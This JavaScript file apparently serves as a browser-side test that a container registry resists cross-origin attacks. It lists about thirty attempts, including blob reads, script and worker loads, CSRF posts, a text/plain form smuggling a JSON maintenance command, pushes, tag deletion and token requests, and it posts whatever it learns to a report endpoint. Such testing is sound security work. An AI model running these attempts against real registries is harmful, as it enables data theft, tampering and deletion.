// What a page may try against a registry of another origin. Each attempt resolves with what the page has learned about
// the content of the registry, with "" if nothing. Whether an attempt has changed something is seen at the registry.
const at = path => target.registry + path;
const blob = name => at(`/v2/${target.repository}/blobs/${target.blobs[name]}`);
const manifest = at(`/v2/${target.repository}/manifests/${target.tag}`);
const maintain = at("/entrepot/v1/maintain");
const job = JSON.stringify({startJob: {scrub: {}}});

const read = (url, options) => fetch(url, options).then(answer => answer.text());
const send = (url, options) => fetch(url, options).then(() => "");

// An element that takes a resource of another origin: whether it exists and is of that kind is something learned.
function load(tag, properties) {
  return new Promise(resolve => {
    const element = Object.assign(document.createElement(tag), properties);
    element.onload = () => resolve("it was loaded");
    element.onerror = () => resolve("");
    document.body.append(element);
  });
}

// A frame has its load event whatever it shows. What matters is whether the page may look inside, and whether a script
// inside runs, which reports itself.
function frame(tag, properties) {
  return new Promise(resolve => {
    const element = Object.assign(document.createElement(tag), properties);
    element.onload = () => {
      try {
        resolve((element.contentDocument || element.getSVGDocument()).documentElement.textContent);
      } catch (error) {
        resolve("");
      }
    };
    document.body.append(element);
  });
}

function form(action, enctype, name, value) {
  document.body.insertAdjacentHTML("beforeend", `<iframe name="${name.length}${enctype}"></iframe>`);
  const sink = document.body.lastElementChild;
  const element = Object.assign(document.createElement("form"), {action, enctype, method: "POST", target: sink.name});
  element.append(Object.assign(document.createElement("input"), {name, value}));
  document.body.append(element);
  return new Promise(resolve => {
    sink.onload = () => resolve("");
    element.submit();
  });
}

function worker(Kind, source) {
  return new Promise(resolve => {
    const started = new Kind(source);
    started.onmessage = event => resolve(String(event.data));
    started.onerror = () => resolve("");
  });
}

function listen(source) {
  return new Promise(resolve => {
    source.onopen = source.onmessage = () => resolve("it was opened");
    source.onerror = () => resolve("");
  });
}

const attempts = {
  "read the list of repositories": () => read(at("/v2/_catalog")),
  "read the tags, with credentials": () => read(at(`/v2/${target.repository}/tags/list`), {credentials: "include"}),
  "read a manifest without CORS": () => read(manifest, {mode: "no-cors"}),
  "read the digest of a manifest": () =>
    fetch(manifest, {method: "HEAD"}).then(answer => answer.headers.get("Docker-Content-Digest")),
  "read a blob by XMLHttpRequest": () => new Promise(resolve => {
    const request = new XMLHttpRequest();
    request.onload = () => resolve(request.responseText);
    request.onerror = () => resolve("");
    request.open("GET", blob("script"));
    request.send();
  }),
  "run a blob as a script": () => load("script", {src: blob("script")}).then(loaded => window.stolen || loaded),
  "run a manifest as a script": () => load("script", {src: manifest}),
  "run a blob as a module": () => import(blob("script")).then(() => "it was loaded"),
  "run a blob in a worker": () => worker(Worker, URL.createObjectURL(
    new Blob([`importScripts("${blob("script")}"); postMessage(self.stolen);`]))),
  "show a blob as an image": () => load("img", {src: blob("image")}),
  "draw a blob as an image with CORS": () => load("img", {crossOrigin: "anonymous", src: blob("image")}),
  "use a blob as a style sheet": () => load("link", {rel: "stylesheet", href: blob("style")}),
  "show a blob in a frame": () => frame("iframe", {src: blob("page")}),
  "show a blob as an object": () => frame("object", {data: blob("page")}),
  "show a blob as an embedded document": () => frame("embed", {src: blob("page")}),
  "show a manifest in a frame": () => frame("iframe", {src: manifest}),
  "register a blob as a service worker": () =>
    navigator.serviceWorker.register(blob("script")).then(() => "it was registered"),
  "run a blob as a shared worker": () => new Promise(resolve => {
    const started = new SharedWorker(blob("script"));
    started.port.onmessage = () => resolve("it runs");
    started.onerror = () => resolve("");
  }),
  "open a manifest as a stream of events": () => listen(new EventSource(manifest)),
  "open a web socket": () => listen(new WebSocket(at("/v2/").replace("http", "ws"))),

  "start a job by a command as text": () => send(maintain, {method: "POST", mode: "no-cors", body: job}),
  "start a job by a command as JSON": () =>
    send(maintain, {method: "POST", body: job, headers: {"Content-Type": "application/json"}}),
  "start a job by a beacon": async () => {
    navigator.sendBeacon(maintain, new Blob([job], {type: "text/plain"}));
    return "";
  },
  "start a job by a form": () => form(maintain, "text/plain", '{"startJob": {"scrub": {}}, "caller": {"account": "', '"}}'),
  "start an upload by a form": () => form(at("/v2/pushed/form/blobs/uploads/"), "application/x-www-form-urlencoded", "a", "b"),
  "start an upload without CORS": () => send(at("/v2/pushed/fetch/blobs/uploads/"), {method: "POST", mode: "no-cors"}),
  "push a blob in one request": () =>
    send(at(`/v2/pushed/blob/blobs/uploads/?digest=${target.pushed}`), {method: "POST", mode: "no-cors", body: "pushed"}),
  "mount a blob": () =>
    send(at(`/v2/pushed/mount/blobs/uploads/?mount=${target.blobs.script}&from=${target.repository}`),
         {method: "POST", mode: "no-cors"}),
  "start an upload by XMLHttpRequest": () => new Promise(resolve => {
    const request = new XMLHttpRequest();
    request.onload = () => resolve(request.responseText);
    request.onerror = () => resolve("");
    request.open("POST", at("/v2/pushed/request/blobs/uploads/"));
    request.send("text");
  }),
  "push a manifest": () => send(at("/v2/pushed/manifest/manifests/new"), {method: "PUT", body: "{}"}),
  "delete a tag": () => send(manifest, {method: "DELETE"}),
  "get a token as an image": () => load("img", {src: at("/token?service=entrepot&offline_token=true")}),
  "get a token by a form": () => form(at("/token"), "application/x-www-form-urlencoded", "grant_type", "password"),
};

// Some attempts end without an event if the browser or the registry refuses them.
const givenUp = () => new Promise(resolve => setTimeout(resolve, 3000, ""));

async function attackAll() {
  const learned = {};
  await Promise.all(Object.entries(attempts).map(async ([name, attempt]) => {
    try {
      learned[name] = await Promise.race([attempt(), givenUp()]) || "";
    } catch (error) {
      learned[name] = "";
    }
  }));
  await fetch(target.home + "/report", {method: "POST", body: JSON.stringify(learned)});
}
attackAll();
